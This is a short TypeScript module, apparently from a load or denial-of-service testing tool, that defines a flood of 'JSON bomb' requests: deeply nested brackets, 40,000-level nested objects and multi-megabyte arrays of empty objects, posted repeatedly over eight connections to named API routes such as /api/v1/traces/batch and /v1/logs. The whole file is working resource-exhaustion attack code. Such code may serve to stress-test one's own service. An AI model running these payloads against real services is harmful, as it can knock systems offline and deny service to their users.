import type { Flood } from './flood.js';
import { postAll } from './posting.js';

const CONNECTIONS = 8;
const MIB = 2 ** 20;

/** Bodies that are small to send and large to parse, on routes with small limits and with large ones. */
export const jsonBombs: Flood = {
  title: 'deep and wide JSON',
  async run(target, tally, stop) {
    const deep = (bytes: number) => Buffer.from('['.repeat(bytes));
    const nested = (depth: number) => Buffer.from(`${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`);
    const wide = (bytes: number) => Buffer.from(`[${'{},'.repeat(bytes / 3)}{}]`);
    const requests = [
      { path: '/api/v1/alerts', body: wide(MIB - 1024) },
      { path: '/api/v1/dashboard/prompts/', body: wide(8 * MIB) },
      { path: '/api/v1/traces/batch', body: wide(8 * MIB) },
      { path: '/api/v1/traces/batch', body: deep(4 * MIB) },
      { path: '/api/v1/traces/batch', body: nested(40_000) },
      { path: '/v1/traces', body: wide(16 * MIB) },
      { path: '/v1/logs', body: nested(40_000) },
    ];
    let sent = 0;
    const next = () => requests[sent++ % requests.length] ?? null;
    await postAll(target, CONNECTIONS, next, { tally, stop });
  },
};
